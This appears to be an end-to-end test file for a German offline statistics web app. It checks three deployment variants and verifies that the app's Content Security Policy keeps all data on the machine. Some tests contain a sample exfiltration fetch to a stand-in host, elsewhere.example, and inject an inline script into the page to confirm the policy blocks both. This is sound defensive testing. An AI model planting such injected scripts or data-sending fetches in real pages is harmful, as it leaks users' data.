// Issue 9: the app works the three ways it is deployed, and its Content Security Policy makes
// "no data leaves the machine" a property of the page:
//   1. the multi-file build from a static server,
//   2. the multi-file build from a server that sends `.wasm` as application/octet-stream (IIS),
//   3. the single file `lagebild.html` opened from file:// with the network switched off.
// In every variant: the whole flow runs (demo data, every report page, every kind of download),
// no request leaves for another host, the page records no CSP violation, and a fetch to another
// origin is refused by the policy.

import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import {
  DIST, assertCleanSession, foreignRequests, launchBrowser, openApp, startServer, waitForApp,
} from './harness.mjs';
import { download, readWorkbook } from './tools.mjs';

const SINGLE_FILE = path.join(DIST, 'lagebild.html');

/** Records CSP violations in the page (the listener is injected before any page script). */
async function recordViolations(page) {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(`${e.effectiveDirective}: ${e.blockedURI}`);
    });
  });
}

async function violations(page) {
  return page.evaluate(() => window.__cspViolations ?? []);
}

/** Opens the single file from file:// in a browser whose every host resolves to `server`. */
async function openSingleFile() {
  const server = await startServer(DIST);
  const browser = await launchBrowser(server);
  const context = await browser.newContext({ locale: 'de-DE', acceptDownloads: true, offline: true });
  const page = await context.newPage();
  const session = { server, browser, context, page, consoleErrors: [], browserRequests: [] };
  page.on('console', (msg) => {
    if (msg.type() === 'error' || msg.type() === 'warning') {
      session.consoleErrors.push(`${msg.type()}: ${msg.text()}`);
    }
  });
  page.on('pageerror', (err) => session.consoleErrors.push(`pageerror: ${err.message}`));
  context.on('request', (req) => session.browserRequests.push(req.url()));
  session.close = async () => {
    await browser.close();
    await server.close();
  };
  await recordViolations(page);
  await page.goto(`file://${SINGLE_FILE}`);
  return session;
}

/** Opens the multi-file build from the test server (optionally with a wrong wasm MIME type). */
async function openServed(wasmMime) {
  const session = await openApp({ wasmMime });
  await recordViolations(session.page);
  await session.page.reload();
  return session;
}

/** Requests of a file:// session that are not the single file itself or its blob/data URLs. */
function foreignFromFile(session) {
  const fromBrowser = session.browserRequests
    .filter((url) => url !== `file://${SINGLE_FILE}` && !url.startsWith('blob:') && !url.startsWith('data:'))
    .map((url) => `Browser: ${url}`);
  const fromServer = foreignRequests({ ...session, browserRequests: [] });
  return [...fromServer, ...fromBrowser];
}

/**
 * The whole flow every variant must run: the demo city is generated and imported, every report
 * page opens, and every kind of download works (workbook, one table as CSV, a chart as SVG and
 * PNG).
 */
async function demoFlow(page) {
  await page.getByTestId('demo-data').click();
  await page.getByTestId('reports-ready').waitFor({ timeout: 180_000 });
  assert.ok((await page.getByTestId('file-row').count()) > 100, 'die Demodaten wurden nicht vollständig eingelesen');
  assert.equal(await page.getByTestId('file-error').count(), 0);
  for (const nav of ['monatsreihe', 'raeumlich', 'bevoelkerung', 'schulen', 'leistungsbezug', 'qualitaet', 'kreuztabelle']) {
    await page.getByTestId(`nav-${nav}`).click();
    await page.getByTestId(`page-${nav}`).waitFor();
  }
  await page.getByTestId('nav-monatsreihe').click();
  const chart = page.getByTestId('graphic').first();
  const svg = await download(page, chart.getByTestId('graphic-svg'));
  assert.match(svg.bytes.toString('utf8'), /^<svg/);
  const png = await download(page, chart.getByTestId('graphic-png'));
  assert.deepEqual([...png.bytes.subarray(0, 4)], [0x89, 0x50, 0x4e, 0x47]);
  const csv = await download(page, page.getByTestId('report-table').first().getByTestId('table-csv'));
  assert.match(csv.name, /\.csv$/);
  await page.getByTestId('nav-download').click();
  const book = await download(page, page.getByTestId('download-workbook'));
  assert.equal(readWorkbook(book.bytes).names[0], 'Inhalt');
}

/** Tries a fetch to another origin from the page; returns how it ended. */
async function tryForeignFetch(page) {
  return page.evaluate(async () => {
    try {
      await fetch('http://elsewhere.example/abfluss?daten=1');
      return 'erlaubt';
    } catch {
      return 'verweigert';
    }
  });
}

const VARIANTS = [
  ['Mehrdateien-Build vom Server', () => openServed(undefined)],
  ['Mehrdateien-Build, .wasm als application/octet-stream (IIS)', () => openServed('application/octet-stream')],
  ['Einzeldatei von file:// ohne Netz', openSingleFile],
];

for (const [name, open] of VARIANTS) {
  test(`${name}: Demodaten, alle Berichte und Downloads, keine Anfrage nach außen, keine CSP-Verletzung`, async (t) => {
    const session = await open();
    t.after(() => session.close());
    await waitForApp(session);
    const csp = await session.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /form-action 'none'/);
    assert.match(csp, /base-uri 'none'/);
    await demoFlow(session.page);
    assert.deepEqual(await violations(session.page), []);
    if (session.page.url().startsWith('file:')) {
      assert.match(csp, /connect-src 'none'/);
      assert.deepEqual(session.consoleErrors, []);
      assert.deepEqual(foreignFromFile(session), []);
    } else {
      assertCleanSession(session);
    }
  });

  test(`${name}: die CSP verweigert einen fetch zu einem anderen Host`, async (t) => {
    const session = await open();
    t.after(() => session.close());
    await waitForApp(session);
    assert.equal(await tryForeignFetch(session.page), 'verweigert');
    const seen = await violations(session.page);
    assert.ok(seen.some((v) => v.startsWith('connect-src: http://elsewhere.example')), seen.join(', '));
    // The refused request never reached the network (the test server sees every host).
    assert.ok(!session.server.requests.some((r) => r.host.startsWith('elsewhere.example')));
    assert.ok(session.consoleErrors.every((e) => /Content Security Policy|Failed to fetch/.test(e)),
      session.consoleErrors.join('\n'));
  });
}

test('die CSP verweigert ein eingeschleustes Inline-Skript (Testvariante der Seite)', async (t) => {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'lagebild-csp-'));
  await fs.cp(DIST, dir, { recursive: true });
  const index = await fs.readFile(path.join(DIST, 'index.html'), 'utf8');
  const injected = index.replace('</head>',
    "<script>fetch('http://elsewhere.example/eingeschleust');</script></head>");
  assert.notEqual(injected, index);
  await fs.writeFile(path.join(dir, 'index.html'), injected);

  const session = await openApp({ root: dir });
  // The browser goes first: the page may still be loading from the copy.
  t.after(async () => {
    await session.close();
    await fs.rm(dir, { recursive: true, force: true });
  });
  await recordViolations(session.page);
  await session.page.reload();
  await waitForApp(session);
  const seen = await violations(session.page);
  assert.ok(seen.some((v) => v.startsWith('script-src-elem: inline')), seen.join(', '));
  assert.ok(!session.server.requests.some((r) => r.host.startsWith('elsewhere.example')));
});
